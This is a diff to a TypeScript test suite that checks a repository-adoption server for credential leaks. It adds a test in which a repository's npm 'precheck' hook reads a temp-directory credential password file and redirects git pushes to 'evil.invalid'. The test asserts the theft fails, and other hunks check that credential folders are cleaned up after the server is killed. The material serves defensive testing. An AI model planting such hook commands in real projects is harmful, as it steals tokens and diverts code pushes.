@@ -46,7 +46,7 @@ beforeAll(async () => {
   allowed = path.join(base, 'allowed');
   canary = path.join(base, 'canary');
   markers = path.join(base, 'markers');
-  await Promise.all([allowed, canary, markers].map((dir) => mkdir(dir)));
+  await Promise.all([allowed, canary, markers, serverTmp()].map((dir) => mkdir(dir)));
   await writeFile(path.join(canary, 'secret.txt'), CANARY_TEXT, { mode: 0o600 });
   await mkdir(path.join(canary, 'nested'));
   await writeFile(path.join(canary, 'nested', 'notes.md'), '# Outside\n');
@@ -100,8 +100,12 @@ function scanProcesses(secret: string): { leaks: string[]; sawPush: boolean } {
   return { leaks, sawPush };
 }
 
+/** The server's (and so its children's) temp directory: credential folders would show up here. */
+const serverTmp = () => path.join(base, 'tmp');
+
 const serverEnv = () => ({
   PATH: ghPath,
+  TMPDIR: serverTmp(),
   GROUNDWORK_ADOPT_BACKOFF_MS: '1',
   DATABASE_URL: `postgres://app:${SERVER_SECRET}@db.internal/app`,
   AWS_SECRET_ACCESS_KEY: SERVER_SECRET,
@@ -239,6 +243,37 @@ describe.each(['stdio', 'streamable-http'] as const)(
       const env = await readFile(path.join(ran, 'env.txt'), 'utf8');
       expect(env).toContain('PATH=');
       expect(env).not.toContain(SERVER_SECRET);
+      await expectStillAnswering();
+    });
+
+    it('gives opted-in repository code neither the token nor a way to redirect the push', async () => {
+      const token = `ghp_${transport === 'stdio' ? 'STDIO' : 'HTTPS'}optedINoptedINoptedIN0001`;
+      const ran = await mkdtemp(path.join(base, 'steal-'));
+      // Reads any credential file it can find, and points the push at another host.
+      const steal = [
+        `cat "\${TMPDIR:-/tmp}"/groundwork-credentials-*/password > ${ran}/stolen.txt 2>/dev/null`,
+        'git config url.http://evil.invalid/.insteadOf http://127.0.0.1',
+        `echo ran > ${ran}/ran.txt`,
+      ].join('; ');
+      const remote = await remoteWith({
+        ...nodeRepo,
+        'package.json': `${JSON.stringify({ name: 'steal', version: '1.0.0', scripts: { 'precheck:agent-docs': steal } })}\n`,
+      });
+      git(remote.bare, 'config', 'http.receivepack', 'true');
+      const gitServer = await startGitHttpServer(path.dirname(remote.bare), token, 0);
+      try {
+        const result = await server.call('adopt_repo', {
+          repository_url: gitServer.urlFor(path.basename(remote.bare)),
+          workspace: await workspace(),
+          run_repository_code: true,
+        });
+        expect(await readFile(path.join(ran, 'ran.txt'), 'utf8')).toBe('ran\n');
+        expect(await readFile(path.join(ran, 'stolen.txt'), 'utf8')).toBe('');
+        expect(result.isError).toBe(false);
+        expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeDefined();
+      } finally {
+        await gitServer.close();
+      }
       await expectStillAnswering();
     });
 
@@ -449,6 +484,9 @@ describe('a server killed with SIGKILL during a push', { timeout: 120_000 }, () 
             return false;
           }
         });
+    /** The token's private folders in the server's temp directory (one exists while the push runs). */
+    const credentialFolders = () =>
+      readdirSync(serverTmp()).filter((name) => name.startsWith('groundwork-credentials-'));
     let reaped: (outcome: { atKill: string[]; after: string[] }) => void = () => {};
     const outcome = new Promise<{ atKill: string[]; after: string[] }>((resolve) => {
       reaped = resolve;
@@ -457,13 +495,13 @@ describe('a server killed with SIGKILL during a push', { timeout: 120_000 }, () 
       // The pack is held back while the server is killed; the push may only continue once it is reaped.
       beforePush: async (phase) => {
         if (phase !== 'pack') return;
-        const atKill = inWorkspace();
+        const atKill = [...inWorkspace(), ...credentialFolders()];
         process.kill(transport.pid as number, 'SIGKILL');
         // A generous bound for the watchdog to notice and kill the group, not a timing assumption.
         const deadline = Date.now() + 30_000;
-        while (inWorkspace().length > 0 && Date.now() < deadline)
+        while ((inWorkspace().length > 0 || credentialFolders().length > 0) && Date.now() < deadline)
           await new Promise((resolve) => setTimeout(resolve, 50));
-        reaped({ atKill, after: inWorkspace() });
+        reaped({ atKill, after: [...inWorkspace(), ...credentialFolders()] });
       },
     });
     try {
@@ -477,7 +515,8 @@ describe('a server killed with SIGKILL during a push', { timeout: 120_000 }, () 
       );
       await expect(call).rejects.toThrow();
       const { atKill, after } = await outcome;
-      expect(atKill.length).toBeGreaterThan(0);
+      expect(atKill.some((name) => name.startsWith('groundwork-credentials-'))).toBe(true);
+      expect(atKill.length).toBeGreaterThan(1);
       expect(after).toEqual([]);
       expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeUndefined();
     } finally {
